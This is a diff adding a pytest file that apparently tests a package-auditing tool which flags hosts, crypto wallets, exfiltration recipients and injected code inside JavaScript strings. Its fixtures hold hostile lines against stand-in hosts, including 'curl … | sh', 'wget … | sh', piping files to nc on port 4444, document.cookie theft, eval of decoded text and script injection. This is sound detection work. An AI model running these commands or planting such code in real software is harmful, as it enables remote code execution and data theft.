@@ -1,0 +1,140 @@
+"""Hosts in longer texts, fixed recipients and code in strings: each beside a silent twin."""
+
+from __future__ import annotations
+
+import pytest
+from support.packages import analysed, contents
+
+from audit.capabilities import mentions
+from audit.model.mention import PAYEE, Mentioned
+
+ETHEREUM = "0x52908400098527886E0F7030069857D2E4169EE7"
+BITCOIN = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"
+SEGWIT = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
+SOLANA = "7EYnhQoR9YM3N7UoaKRoA44Uy8JeaZV3qyouov87awMs"
+TRON = "TJRabPrwbZy45sbavfcjinPJC18kjpRTv8"
+
+BOT = "7012345678:AAFictitious-fictitiousFictitious_f"
+WEBHOOK = "/api/webhooks/1100000000000000001/" + "Fict" * 16
+PIECE = "bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi"
+
+
+def told(code: str, kind: Mentioned, path: str = "index.js") -> list[tuple[str, str]]:
+    files = {"index.js": "module.exports = 1", path: code}
+    found = mentions(analysed(contents(files)))
+    return [(each.to, each.text) for each in found if each.mentioned is kind]
+
+
+ELSEWHERE = {
+    "in markup": "res.end('<script src=\"https://a.invalid/x.js\"></script>')",
+    "in a command": "run('curl -s https://a.invalid/x | sh')",
+    "in a command without a scheme": "run('wget -qO- a.invalid/s | sh')",
+    "in a command of many lines": "run(`\n cat x |\n nc a.invalid 4444\n`)",
+    "a relay": "new RTCPeerConnection({ iceServers: [{ urls: 'turn:a.invalid:3478' }] })",
+    "a rarer scheme": "connect('mqtts://a.invalid:8883')",
+    "with a port": "connect('a.invalid:443')",
+}
+NOT_ELSEWHERE = {
+    "a comment": "// curl https://a.invalid/x",
+    "a block of comment": "/**\n * See https://a.invalid/x\n */",
+    "a sentence": "log('Nothing found here, see https://a.invalid')",
+    "an agent": "headers({ agent: 'got/11 (https://a.invalid/got)' })",
+    "a file": "run('curl -o a.zip'); read('a.json:12')",
+    "unfinished": "run('curl https://' + host)",
+    "another scheme": "get('file://a.invalid/x'); get('xhttps://a.invalid')",
+}
+
+
+@pytest.mark.parametrize("code", ELSEWHERE.values(), ids=ELSEWHERE)
+def test_a_host_in_longer_texts_or_of_rarer_schemes(code: str) -> None:
+    found = told(code, Mentioned.ADDRESS)
+    assert found
+    assert all("//a.invalid" in text for _, text in found)
+
+
+@pytest.mark.parametrize("code", NOT_ELSEWHERE.values(), ids=NOT_ELSEWHERE)
+def test_no_host(code: str) -> None:
+    assert told(code, Mentioned.ADDRESS) == []
+
+
+PAID = {
+    "paid": (f"send({{ to: '{ETHEREUM}', value }})", PAYEE, ETHEREUM),
+    "in the place of another": (f"x = n > 5 ? '{BITCOIN}' : x", PAYEE, BITCOIN),
+    "handed on": (f"new PublicKey('{SOLANA}')", PAYEE, SOLANA),
+    "in a table": (f"exports.all = {{ 1: '{ETHEREUM}' }}", "", ETHEREUM),
+    "of a second format": (f"const keep = '{SEGWIT}'", "", SEGWIT),
+    "of a third": (f"const keep = '{TRON}'", "", TRON),
+}
+NOBODYS = {
+    "nobody's": "f('0x" + "0" * 40 + "'); f('0x" + "eE" * 20 + "')",
+    "burnt": "f('0x" + "0" * 36 + "dEaD')",
+    "a comment": f"/* @example pay('{ETHEREUM}') */",
+    "a pattern": "/^0x[a-f0-9]{40}$/.test(x)",
+}
+
+
+@pytest.mark.parametrize(("code", "to", "text"), PAID.values(), ids=PAID)
+def test_what_a_wallet_is_for(code: str, to: str, text: str) -> None:
+    assert told(code, Mentioned.WALLET) == [(to, text)]
+
+
+@pytest.mark.parametrize("code", NOBODYS.values(), ids=NOBODYS)
+def test_wallets_of_nobody(code: str) -> None:
+    assert told(code, Mentioned.WALLET) == []
+
+
+RECIPIENTS = {
+    "a bot": (f"f(`https://t.example/bot{BOT}/send`)", "bot", BOT),
+    "a webhook": (f"f('{WEBHOOK}')", "webhook", WEBHOOK),
+    "a mail box": ("mail({ bcc: 'a@drop.invalid' })", "mail box", "a@drop.invalid"),
+    "a bucket": ("put({ Bucket: 'mirror-7f3a', Key })", "bucket", "mirror-7f3a"),
+    "a hidden service": ("f('http://" + "fict" * 14 + ".onion/c')", "hidden service", "fict" * 14 + ".onion"),
+    "a name for a wallet": ("await resolve('keeper-x.eth')", "name of a wallet", "keeper-x.eth"),
+    "a number": ("connect({ host: 3405803781, port: 80 })", "number of a machine", "3405803781"),
+    "numbers": ("f('http://' + [203, 0, 113, 5].join('.'))", "number of a machine", "203, 0, 113, 5"),
+    "a piece of a shared store": (f"get('{PIECE}')", "content", PIECE),
+}  # fmt: skip
+NO_RECIPIENT = {
+    "a comment": f"/* @example pay('{ETHEREUM}') */",
+    "a digest": "const EMPTY = 'da39a3ee5e6b4b0d3255bfef95601890afd80709'",
+    "an alphabet": "f('123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz')",
+    "an option": "mail({ to, cc, bcc: options.bcc }); put({ Bucket, Key })",
+    "an author": "const author = 'Ada <a@b.example>'",
+}
+
+
+@pytest.mark.parametrize(("code", "kind", "text"), RECIPIENTS.values(), ids=RECIPIENTS)
+def test_a_recipient(code: str, kind: str, text: str) -> None:
+    assert told(code, Mentioned.RECIPIENT) == [(kind, text)]
+
+
+@pytest.mark.parametrize("code", NO_RECIPIENT.values(), ids=NO_RECIPIENT)
+def test_no_recipient(code: str) -> None:
+    assert told(code, Mentioned.RECIPIENT) == []
+
+
+WRITTEN = {
+    "network": ("out(`${code};fetch('https://a.invalid')`)", {"network"}),
+    "a page's secrets": ("out(';s(document.cookie)')", {"what a page keeps"}),
+    "code": ("return 'eval(x);' + source", {"code from text"}),
+    "decoded": ("return 'eval(atob(\"dHJ1ZQ\"));' + source", {"code from text", "code that is decoded"}),
+    "Node": ("return source + ';require(\"child_process\").exec(1)'", {"powers of Node"}),
+    "an element": ("html.replace('</head>', '<script>go()</script></head>')", {"a script's element"}),
+}  # fmt: skip
+NOT_WRITTEN = {
+    "its own code": "const cp = require('child_process'); fetch(x); eval(y)",
+    "a message": "throw new Error('fetch() returned undefined')",
+    "a sentence": "log('you may not use eval(x) in this place')",
+    "a name": "const names = ['XMLHttpRequest', 'WebSocket', 'localStorage']",
+    "a comment": "// out('fetch(1);')",
+}
+
+
+@pytest.mark.parametrize(("code", "what"), WRITTEN.values(), ids=WRITTEN)
+def test_code_in_a_string(code: str, what: set[str]) -> None:
+    assert {text for _, text in told(code, Mentioned.WRITTEN)} == what
+
+
+@pytest.mark.parametrize("code", NOT_WRITTEN.values(), ids=NOT_WRITTEN)
+def test_no_code_in_a_string(code: str) -> None:
+    assert told(code, Mentioned.WRITTEN) == []
